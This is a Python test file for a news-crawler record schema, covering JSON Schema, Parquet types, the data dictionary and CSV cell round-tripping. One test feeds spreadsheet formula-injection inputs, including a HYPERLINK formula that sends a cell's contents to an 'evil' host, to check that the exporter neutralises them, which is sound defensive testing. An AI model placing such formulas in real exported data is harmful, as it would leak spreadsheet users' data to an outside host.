"""The record schema (pipelines/schema) is the one source of the JSON Schema, the Parquet schema,
the CSV cells and the data dictionary."""

from __future__ import annotations

import json

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

import pipelines.schema as record_schema
from crawler.domain.items import EXPORT_FIELDS, FEED_FIELDS
from pipelines.schema import (
    CHANGE_COLUMNS,
    COLUMNS,
    EXPORT_COLUMNS,
    RECORD_COLUMNS,
    arrow_schema,
    data_dictionary,
    from_arrow_row,
    from_csv_cell,
    generated_files,
    json_schema,
    to_arrow_row,
    to_csv_cell,
)
from pipelines.schema.__main__ import main as regenerate


def test_committed_schema_files_are_what_the_schema_generates():
    for path, text in generated_files().items():
        assert path.read_text(encoding="utf-8") == text, (
            f"{path.name} is stale: run python -m pipelines.schema"
        )


def test_check_reports_a_stale_file_and_regeneration_rewrites_it(tmp_path, monkeypatch, capsys):
    stale = tmp_path / "DATA.md"
    stale.write_text("# hand-edited\n", encoding="utf-8")
    monkeypatch.setattr(record_schema, "DATA_DICTIONARY_PATH", stale)
    monkeypatch.setattr(record_schema, "JSON_SCHEMA_PATH", tmp_path / "article.schema.json")
    assert regenerate(["--check"]) == 1
    assert f"{stale}: out of date" in capsys.readouterr().err
    assert stale.read_text(encoding="utf-8") == "# hand-edited\n"
    assert regenerate([]) == 0
    assert stale.read_text(encoding="utf-8") == data_dictionary()
    assert json.loads((tmp_path / "article.schema.json").read_text("utf-8")) == json_schema()
    assert regenerate(["--check"]) == 0


def test_record_columns_are_the_items_export_fields():
    assert RECORD_COLUMNS == EXPORT_FIELDS
    assert (*RECORD_COLUMNS, "change") == FEED_FIELDS
    assert (
        *RECORD_COLUMNS,
        "first_seen",
        "last_seen",
        "published_at_quality",
        "best_date",
    ) == EXPORT_COLUMNS
    assert (*EXPORT_COLUMNS, "change", "version", "changed_fields") == CHANGE_COLUMNS


def test_data_dictionary_lists_every_column_with_its_example():
    text = data_dictionary()
    for column in COLUMNS:
        [row] = [line for line in text.splitlines() if line.startswith(f"| `{column.name}` |")]
        example = json.dumps(column.example, ensure_ascii=False).replace("|", "\\|")
        assert f"`{example}`" in row
    assert "`published_at_local`" in text
    assert "first_seen" in text
    assert "last_seen" in text


def test_every_example_is_valid_against_the_json_schema():
    properties = json_schema()["properties"]
    for column in COLUMNS:
        validator = Draft202012Validator(
            properties[column.name], format_checker=Draft202012Validator.FORMAT_CHECKER
        )
        assert validator.is_valid(column.example), column.name


def test_parquet_schema_types_times_lists_and_structs():
    schema = arrow_schema(EXPORT_COLUMNS)
    utc = pa.timestamp("us", tz="UTC")
    for name in ("published_at", "modified_at", "crawled_at", "first_seen", "last_seen"):
        assert schema.field(name).type == utc
    names = schema.names
    for name in ("published_at", "modified_at", "crawled_at"):
        assert names[names.index(name) + 1] == f"{name}_local"
        assert schema.field(f"{name}_local").type == pa.string()
    assert schema.field("images").type == pa.list_(
        pa.struct([pa.field("url", pa.string(), nullable=False), ("caption", pa.string())])
    )
    assert schema.field("problems").type.value_type.names == ["field", "code", "message"]
    assert schema.field("summary_truncated").type == pa.bool_()
    assert schema.field("tags").type == pa.list_(pa.string())
    assert "first_seen_local" not in names
    assert arrow_schema(CHANGE_COLUMNS).field("version").type == pa.int64()


@pytest.mark.parametrize(
    ("name", "value", "cell"),
    [
        ("title", "Đầu tư", "Đầu tư"),
        ("title", None, ""),
        ("summary_truncated", True, "true"),
        ("tags", ["đầu tư"], '["đầu tư"]'),
        (
            "images",
            [{"url": "https://x/a.jpg", "caption": None}],
            '[{"url": "https://x/a.jpg", "caption": null}]',
        ),
        ("version", 3, "3"),
        ("published_at", "2023-01-18T17:48:00+07:00", "2023-01-18T17:48:00+07:00"),
    ],
)
def test_csv_cell_round_trips(name, value, cell):
    assert to_csv_cell(name, value) == cell
    assert from_csv_cell(name, cell) == value


@pytest.mark.parametrize(
    ("name", "value", "cell"),
    [
        ("title", '=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("summary", "+84 28 3829", "'+84 28 3829"),
        ("summary", "- Sáng ngày 18/01", "'- Sáng ngày 18/01"),
        ("author", "@SUM(1+1)", "'@SUM(1+1)"),
        ("body_text", "\tcmd", "'\tcmd"),
        ("body_text", "\rcmd", "'\rcmd"),
        ("category", "'=already quoted", "''=already quoted"),
        ("category", "'plain", "'plain"),
        ("published_at", "-18/01/2023", "'-18/01/2023"),
        ("title", "Đầu tư = tăng trưởng", "Đầu tư = tăng trưởng"),
    ],
)
def test_csv_text_cell_that_a_spreadsheet_would_run_gets_a_quote_and_reads_back(name, value, cell):
    assert to_csv_cell(name, value) == cell
    assert from_csv_cell(name, cell) == value


def test_csv_number_cell_is_never_quoted():
    assert to_csv_cell("version", -3) == "-3"
    assert from_csv_cell("version", "-3") == -3


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab đ"), max_size=8))
def test_csv_text_cell_round_trips_and_never_begins_a_formula(value):
    cell = to_csv_cell("title", value)
    assert from_csv_cell("title", cell) == (value or None)
    assert not cell or cell[0] not in "=+-@\t\r"


def test_a_local_time_that_is_not_an_instant_keeps_its_string_in_parquet():
    row = {"published_at": "18/01/2023", "crawled_at": "2024-05-02T09:15:30"}
    out = to_arrow_row(row, ("published_at", "crawled_at"))
    assert out == {
        "published_at": None,
        "published_at_local": "18/01/2023",
        "crawled_at": None,
        "crawled_at_local": "2024-05-02T09:15:30",
    }
    assert from_arrow_row(out, ("published_at", "crawled_at")) == row
